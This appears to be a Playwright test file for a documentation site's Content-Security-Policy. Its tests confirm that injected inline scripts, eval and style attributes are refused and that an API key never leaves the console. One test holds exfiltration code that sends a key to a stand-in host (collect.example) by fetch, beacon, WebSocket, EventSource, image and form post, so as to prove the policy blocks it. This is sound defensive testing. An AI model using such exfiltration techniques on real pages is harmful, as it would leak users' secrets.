// The Content-Security-Policy of every page (issue 28), in the browser, as a reader meets it.
//
// Every browser test already fails on anything a page's policy refuses: the fixture listens for
// `securitypolicyviolation` in every document (tests/browser/fixtures.ts). So routes.spec.ts, which
// opens every route of the sitemap and the not-found page once on a desktop in dark mode and then
// switches it to light with the toggle, is the sweep of every route with zero violations; many
// other tests load pages in light mode, and widths.spec.ts sees a sample of templates at phone
// widths. Opening all ~190 routes again in each of the other combinations would add minutes for
// nothing: what the policy allows depends on the page's HTML (its inline scripts and style
// attributes), which the colour mode and the device do not change; they change only what runs (the
// colour-mode script's branch, the phone menu) and the CSS. So here a sample of pages that together
// hold every template, every kind of inline script and every style attribute the build writes is
// opened on a phone in dark mode (then switched to light, with the phone menu opened); and the
// tests show the policy refusing what it must: inline code, requests to hosts the catalogue does
// not document, and the key going anywhere but the API.
import {existsSync, readFileSync} from 'node:fs';
import path from 'node:path';
import {devices, type Locator, type Page, type Route} from '@playwright/test';
import {test, expect, type PolicyViolation} from './fixtures';
import {buildDir, gotoHydrated, navigate, sitemapPaths, testPagesDir, testPagesSite} from '../support/site';
import {apiPages} from '../../api/catalogue/pages';
import {kindOf} from '../../plugins/content-security-policy/inline-scripts';
import {scanPage} from '../../plugins/content-security-policy/page';
import {documentedApiHosts} from '../../plugins/content-security-policy/policy';
import type {ApiCall, Network} from '../../api/catalogue/types';

const documentedHosts = documentedApiHosts(apiPages);
const documentedHostNames = documentedHosts.map((host) => new URL(host).hostname);
const cors = {'access-control-allow-origin': '*'};

/** The file of build/ a sitemap path is served from. */
function builtFile(pagePath: string): string {
  return path.join(buildDir, pagePath === '/' ? 'index.html' : `${pagePath.replace(/^\//, '')}.html`);
}

/** What a page holds that its policy is made of: its template (the <html> classes), its kinds of inline script, its style attributes. */
function featuresOf(html: string): string[] {
  const classes = /<html[^>]* class="?([^">]*)"?[ >]/.exec(html)?.[1]?.split(/\s+/) ?? [];
  const template = classes
    .filter((name) => !/-id-(?!default$|api$)|^docs-doc-id-/.test(name))
    .sort()
    .join(' ');
  const scan = scanPage(html);
  return [
    `template: ${template}`,
    ...scan.scripts.map((script) => `script: ${kindOf(script, {baseUrl: '/'})?.name ?? 'unknown'}`),
    ...scan.styleAttributes.map((style) => `style: ${style}`),
  ];
}

/**
 * Pages of the sitemap that together hold every feature any page holds: the page with the most
 * features not yet held, until none is left (in sitemap order on a tie, so the sample is stable).
 */
function coveringSample(): string[] {
  const pages = sitemapPaths().map((pagePath) => ({pagePath, features: new Set(featuresOf(readFileSync(builtFile(pagePath), 'utf8')))}));
  const left = new Set(pages.flatMap((page) => [...page.features]));
  const sample: string[] = [];
  while (left.size > 0) {
    const gain = (page: (typeof pages)[number]): number => [...page.features].filter((feature) => left.has(feature)).length;
    const best = pages.reduce((a, b) => (gain(b) > gain(a) ? b : a));
    sample.push(best.pagePath);
    for (const feature of best.features) left.delete(feature);
  }
  return sample;
}

const sample = existsSync(buildDir) ? coveringSample() : [];
// One redirect page (its own inline script) and the search page with a query (it fetches the index).
const redirectPath = '/docs/guide/did_profile/did_profile';
const extraPaths = ['/search?q=balance'];

/** Choose a colour mode with the navbar toggle (system → light → dark), as a reader does. */
async function chooseMode(page: Page, mode: 'light' | 'dark'): Promise<void> {
  const toggle = page.getByRole('button', {name: /Switch between dark and light mode/});
  for (let click = 0; click < 3 && !(await toggle.getAttribute('aria-label'))?.includes(`currently ${mode} mode`); click += 1) {
    await toggle.click();
  }
  await expect(page.locator('html')).toHaveAttribute('data-theme', mode);
}

test.describe('a sample of every template, kind of inline script and style attribute loads with nothing refused', () => {
  test('the sample holds every feature of the build', () => {
    test.skip(!existsSync(buildDir), 'no build/');
    expect(sample.length).toBeGreaterThan(3);
    const all = new Set(sitemapPaths().flatMap((pagePath) => featuresOf(readFileSync(builtFile(pagePath), 'utf8'))));
    const held = new Set(sample.flatMap((pagePath) => featuresOf(readFileSync(builtFile(pagePath), 'utf8'))));
    expect([...all].filter((feature) => !held.has(feature))).toEqual([]);
    expect([...all].filter((feature) => feature === 'script: unknown')).toEqual([]);
  });

  test.describe('on a phone, dark at load, then light; the menu opened', () => {
    const {defaultBrowserType: _browser, ...phone} = devices['Pixel 7'];
    test.use({...phone, colorScheme: 'dark'});
    for (const pagePath of [...sample, ...extraPaths]) {
      test(pagePath, async ({sharedPage: page}) => {
        await gotoHydrated(page, pagePath);
        await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
        // On a phone the colour toggle is in the menu.
        await page.getByRole('button', {name: 'Toggle navigation bar'}).click();
        const menu = page.locator('.navbar-sidebar');
        await chooseMode(page, 'light');
        await menu.getByRole('button', {name: 'Close navigation bar'}).click();
        await expect(menu.getByRole('button', {name: 'Close navigation bar'})).toBeHidden();
      });
    }
  });

  // Every route and the not-found page load dark on a desktop in routes.spec.ts; here what it does not open.
  test.describe('on a desktop, dark at load', () => {
    test.use({colorScheme: 'dark'});
    for (const pagePath of extraPaths) {
      test(pagePath, async ({sharedPage: page}) => {
        await gotoHydrated(page, pagePath);
        await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
      });
    }

    test(`a redirect page: ${redirectPath}`, async ({sharedPage: page}) => {
      await page.goto(`${redirectPath}?from=old#top`);
      await expect(page).toHaveURL(/\/docs\/guide\/did_profile\?from=old#top$/);
    });

    test('moving from page to page in the browser, through the navbar, the sidebar and a post', async ({sharedPage: page}) => {
      await gotoHydrated(page, '/');
      await navigate(
        page,
        () => page.getByRole('navigation', {name: 'Main'}).getByRole('link', {name: 'Docs', exact: true}).click(),
        '/docs/intro',
      );
      await navigate(
        page,
        () => page.getByRole('navigation', {name: 'Docs sidebar'}).getByRole('link', {name: 'Manage your NFT collection'}).click(),
        '/docs/guide/manage_collection',
      );
      await navigate(
        page,
        () => page.getByRole('navigation', {name: 'Main'}).getByRole('link', {name: 'API', exact: true}).click(),
        '/api/address/xch_balance',
      );
      await navigate(
        page,
        () => page.getByRole('navigation', {name: 'Main'}).getByRole('link', {name: 'Blog', exact: true}).click(),
        '/blog',
      );
      const post = page.locator('article h2 a').first();
      const postPath = (await post.getAttribute('href')) ?? '';
      expect(postPath).toMatch(/^\/blog\/./);
      await navigate(page, () => post.click(), postPath);
    });
  });

  test('the sub-path build: its pages load with nothing refused, and its starter is hashed as written', async ({sharedPage: page}) => {
    test.skip(!existsSync(testPagesDir), 'no build-test/: run `npm run build:test-pages` first (npm test always does)');
    for (const pagePath of ['/', '/api/address/xch_balance', '/docs/guide/manage_collection']) {
      await gotoHydrated(page, `${testPagesSite}${pagePath}`);
      const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(policy).toContain(`connect-src 'self' ${documentedHosts.join(' ')};`);
    }
  });
});

test.describe('inline code the build did not write is refused and reported', () => {
  test.skip(!existsSync(testPagesDir), 'no build-test/: run `npm run build:test-pages` first (npm test always does)');
  test.use({expectsPolicyViolations: true, allowedConsoleErrors: /Content Security Policy/});

  test('an unhashed inline script in the page, and the inline code a component tries to run', async ({
    sharedPage: page,
    policyViolations,
  }) => {
    // The page as served gets an inline script that is not in its policy, as markup slipped into a page would be.
    await page.route(`${testPagesSite}/__tests__/inline-code`, async (route: Route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace('</body>', '<script>window.__parsedScriptRan = true</script></body>');
      await route.fulfill({response, body: html});
    });
    await gotoHydrated(page, `${testPagesSite}/__tests__/inline-code`);
    const attempts = page.getByRole('list', {name: 'Attempts'});
    await expect(attempts).toBeVisible();
    await expect(attempts.getByRole('listitem')).toHaveText([
      'an inline <script> added to the page: refused',
      'an inline event handler (onerror): refused',
      'a style attribute written with innerHTML: refused',
      'code made from a string (new Function): refused',
    ]);
    expect(await page.evaluate(() => (window as unknown as {__parsedScriptRan?: boolean}).__parsedScriptRan)).toBeUndefined();
    const seen = (violation: PolicyViolation): string => `${violation.directive} ${violation.blocked}`;
    // The inline script in the page and the one added to it, the event handler, the style attribute, the code from a string.
    await expect
      .poll(() => policyViolations.map(seen).sort())
      .toEqual(['script-src eval', 'script-src-attr inline', 'script-src-elem inline', 'script-src-elem inline', 'style-src-attr inline']);
    expect(policyViolations.every((violation) => violation.page === '/docs-preview/__tests__/inline-code')).toBe(true);
  });
});

/** One call of a one-call endpoint page, and the network of its console, for each documented host. */
function consoleForEachHost(): Array<{host: string; doc: string; call: ApiCall; network: Network}> {
  const endpoints = apiPages.filter((apiPage) => apiPage.calls.length === 1 && apiPage.calls[0]?.legacy === undefined);
  return documentedHosts.map((host) => {
    for (const apiPage of endpoints) {
      const call = apiPage.calls[0];
      const network = (['mainnet', 'testnet', 'pro'] as const).find((name) => call?.hosts[name] === host);
      if (call !== undefined && network !== undefined) return {host, doc: apiPage.doc, call, network};
    }
    throw new Error(`no endpoint page's console sends to ${host}`);
  });
}

const networkLabel: Record<Network, RegExp> = {mainnet: /^Mainnet/, testnet: /^Testnet/, pro: /^Pro/};

/** Opens an endpoint page's console with a click, as a reader does; the console region. */
async function openConsole(page: Page, pagePath: string): Promise<Locator> {
  await gotoHydrated(page, pagePath);
  await page.getByRole('button', {name: 'Try it'}).click();
  const region = page.getByRole('region', {name: /^Try (GET|POST) /});
  await expect(region).toBeVisible();
  return region;
}

/** Answers every request to a documented API host (and its preflight), recording the URL of each. */
async function answerApi(page: Page): Promise<string[]> {
  const sent: string[] = [];
  for (const host of documentedHosts) {
    await page.route(`${host}/**`, async (route) => {
      if (route.request().method() === 'OPTIONS') {
        await route.fulfill({
          status: 204,
          headers: {...cors, 'access-control-allow-headers': '*', 'access-control-allow-methods': 'GET, POST'},
        });
        return;
      }
      sent.push(route.request().url());
      await route.fulfill({status: 200, contentType: 'application/json', headers: cors, body: '{"status":"success"}'});
    });
  }
  return sent;
}

test.describe('from an endpoint page, only the documented API hosts can be reached', () => {
  test.use({answeredHosts: documentedHostNames, expectsPolicyViolations: true, allowedConsoleErrors: /Content Security Policy/});

  test('a fetch, a beacon, a socket, an event stream, a picture and a form to another host are refused and reported', async ({
    sharedPage: page,
    policyViolations,
  }) => {
    // Answered if it ever went out, so that only the policy can stop it; the fixture fails the test on any request to it.
    const leaked: string[] = [];
    await page.route('https://collect.example/**', async (route) => {
      leaked.push(route.request().url());
      await route.fulfill({status: 200, headers: cors, body: 'ok'});
    });
    await openConsole(page, '/api/address/xch_balance');
    const outcomes = await page.evaluate(async () => {
      const url = 'https://collect.example/k?key=fixture';
      const fetched = await fetch(url, {method: 'POST', body: 'key'}).then(
        () => 'sent',
        (error: unknown) => `refused (${(error as Error).name})`,
      );
      // A beacon is queued and a socket made, then the policy refuses to connect them.
      navigator.sendBeacon(url, 'key');
      const socket = new WebSocket('wss://collect.example/k');
      new EventSource(url);
      const picture = new Image();
      picture.src = url;
      const form = document.createElement('form');
      form.method = 'post';
      form.action = url;
      document.body.append(form);
      form.submit();
      return {fetched, socket: socket.readyState === WebSocket.CLOSED ? 'closed' : 'connecting'};
    });
    expect(outcomes).toEqual({fetched: 'refused (TypeError)', socket: 'closed'});
    const refused = (directive: string): string[] =>
      policyViolations.filter((violation) => violation.directive === directive).map((violation) => violation.blocked.replace(/\?.*$/, ''));
    // The fetch, the beacon, the socket and the event stream; the picture; the form.
    await expect
      .poll(() => refused('connect-src').sort())
      .toEqual(['https://collect.example/k', 'https://collect.example/k', 'https://collect.example/k', 'wss://collect.example/k']);
    await expect.poll(() => refused('img-src')).toEqual(['https://collect.example/k']);
    await expect.poll(() => refused('form-action')).toEqual(['https://collect.example/k']);
    // The form did not take the reader away.
    expect(await page.evaluate(() => location.pathname)).toBe('/api/address/xch_balance');
    expect(leaked).toEqual([]);
  });
});

test.describe('Send still reaches each documented host', () => {
  test.use({answeredHosts: documentedHostNames});

  for (const {host, doc, call, network} of consoleForEachHost()) {
    test(`${host}, from /api/${doc} (${network})`, async ({sharedPage: page}) => {
      const sent = await answerApi(page);
      const region = await openConsole(page, `/api/${doc}`);
      await region.getByRole('radio', {name: networkLabel[network]}).check();
      const keyField = region.getByLabel(/Pro API key/);
      if ((await keyField.count()) > 0) await keyField.fill('fixture-key-7c1e');
      await region.getByRole('button', {name: 'Send'}).click();
      await expect(region.getByTestId('try-it-status')).toHaveText('200 OK');
      expect(sent.map((url) => new URL(url).origin)).toEqual([host]);
      expect(sent[0]).toContain(call.path.split('{')[0]);
    });
  }
});

test.describe('the key stays in the console', () => {
  test.use({answeredHosts: documentedHostNames, permissions: ['clipboard-read', 'clipboard-write']});

  test('never in a URL, in localStorage, in the Markdown twin (Copy page) or in what the search fetches', async ({page}) => {
    const key = 'fixture-key-3f9a62d1';
    const urls: string[] = [];
    const bodies: string[] = [];
    page.on('request', (request) => urls.push(request.url()));
    page.on('response', async (response) => {
      if (new URL(response.url()).pathname.match(/\.(md|json)$/)) bodies.push(await response.text().catch(() => ''));
    });
    const sent = await answerApi(page);
    const region = await openConsole(page, '/api/address/xch_balance');
    await region.getByRole('radio', {name: /^Pro/}).check();
    await region.getByLabel(/Pro API key/).fill(key);
    await region.getByRole('button', {name: 'Send'}).click();
    await expect(region.getByTestId('try-it-status')).toHaveText('200 OK');
    expect(sent).toHaveLength(1);

    await page.getByRole('button', {name: 'Copy page', exact: true}).click();
    await page.getByRole('menuitem', {name: 'Copy page'}).click();
    await expect(page.getByRole('status').filter({hasText: 'Copied the page as Markdown.'})).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toMatch(/^# /);

    const search = page.getByRole('combobox', {name: 'Search'});
    await search.fill('xch balance');
    await expect(page.getByRole('listbox', {name: 'Search results'}).getByRole('option').first()).toBeVisible();

    expect(bodies.length, 'the twin and the search files fetched').toBeGreaterThan(1);
    expect(
      urls.filter((url) => url.includes(key)),
      'URLs with the key',
    ).toEqual([]);
    expect(page.url()).not.toContain(key);
    expect(
      bodies.filter((body) => body.includes(key)),
      'twin and search files with the key',
    ).toEqual([]);
    expect(copied).not.toContain(key);
    expect(await page.evaluate((k) => Object.values(localStorage).some((value) => value.includes(k)), key), 'the key in localStorage').toBe(
      false,
    );
  });
});
